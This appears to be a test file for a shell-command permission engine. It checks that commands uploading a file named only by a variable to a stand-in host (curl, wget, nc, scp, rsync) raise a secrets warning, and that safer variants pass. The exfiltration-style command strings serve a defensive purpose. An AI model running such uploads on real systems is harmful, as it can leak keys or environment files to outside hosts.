// A file named only when the line runs, sent to another host (`curl -T "$F" URL`, `scp "$F" host:`,
// `cat "$F" | curl -d @- URL`): it may be a key or an env file, and was allowed because its name said nothing.
// It asks now; a file named in full, a value rather than a file, and a request to this machine stay as they were.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { engine } from '../../support/engineHarness';

test('a file named only when the line runs, sent to another host, asks', () => {
  const { ids } = engine();
  for (const command of [
    'curl -d @"$F" https://x.example.com',
    'curl -T "$F" https://x.example.com',
    'curl -F "f=@$F" https://x.example.com',
    'wget --post-file="$F" https://x.example.com',
    'http POST x.example.com @"$F"',
    'nc x.example.com 80 < "$F"',
    'cat "$F" | curl -d @- https://x.example.com',
    'scp "$F" host:',
    'rsync "$D/" host:/srv/',
  ])
    assert.ok(ids(command).includes('secrets.send-unknown-file'), `${command}: ${ids(command)}`);
});

test('a file named in full, a value, a download or a request to this machine stays quiet', () => {
  const { decide } = engine();
  for (const command of [
    'curl -d @body.json https://x.example.com',
    'curl -d "$DATA" https://x.example.com',
    'curl -T "$F" http://localhost:8080/up',
    'curl -T "$DIR/report.pdf" https://x.example.com',
    'scp host:"$F" .',
    'rsync -a ./dist/ "$HOST":/srv/',
  ])
    assert.equal(decide(command), 'allow', command);
});
